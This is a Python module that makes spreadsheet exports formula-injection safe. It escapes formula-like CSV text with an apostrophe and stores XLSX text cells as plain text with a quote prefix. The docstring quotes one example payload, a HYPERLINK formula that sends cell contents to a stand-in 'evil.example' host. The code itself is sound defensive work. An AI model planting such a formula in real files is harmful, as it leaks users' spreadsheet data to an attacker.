"""Cells for the CSV and XLSX files the platform writes, safe from formula injection.

Spreadsheet programs read a cell that begins with ``=``, ``+``, ``-`` or ``@`` (or with a
tab or carriage return before one of them) as a formula, so a course title such as
``=HYPERLINK("https://evil.example/?"&A1;"Details")`` would become a live formula in the
HR person's spreadsheet. Every CSV and XLSX export goes through this module:

- CSV: such a text cell is written with a leading apostrophe, which spreadsheets show as
  text. A text that already begins with an apostrophe gets one more, so ``csv_text_restore``
  (used by the importers) gives back exactly the original text.
- XLSX: text cells are always stored as text (never as a formula or an error value); a
  text that would be read as a formula additionally carries Excel's quote prefix, so
  editing the cell keeps it text. The stored value is the original text.

Numbers, dates and empty cells are written unchanged: they cannot hold a formula.
"""

from collections.abc import Iterable

from openpyxl.cell import Cell

#: First characters that make a spreadsheet read a text cell as a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_QUOTE = "'"


def is_formula_like(text: str) -> bool:
    """True if a spreadsheet could read ``text`` as a formula."""
    return text.startswith(FORMULA_TRIGGERS)


def csv_cell(value):
    """The value to write into a CSV cell: dangerous text is prefixed with an apostrophe."""
    if isinstance(value, str) and (is_formula_like(value) or value.startswith(_QUOTE)):
        return _QUOTE + value
    return value


def csv_row(values: Iterable) -> list:
    return [csv_cell(value) for value in values]


def csv_text_restore(text: str) -> str:
    """The original text of a cell written by ``csv_cell`` (the inverse, for importers)."""
    if text.startswith(_QUOTE) and (is_formula_like(text[1:]) or text[1:].startswith(_QUOTE)):
        return text[1:]
    return text


def xlsx_append(sheet, values: Iterable) -> None:
    """Append a row to an openpyxl worksheet with every text cell stored as text."""
    row = []
    for value in values:
        cell = Cell(sheet, value=value)
        if isinstance(value, str):
            # openpyxl types "=…" as a formula and "#N/A" as an error; a label is neither.
            cell.data_type = "s"
            if is_formula_like(value):
                cell.quotePrefix = True
        row.append(cell)
    sheet.append(row)
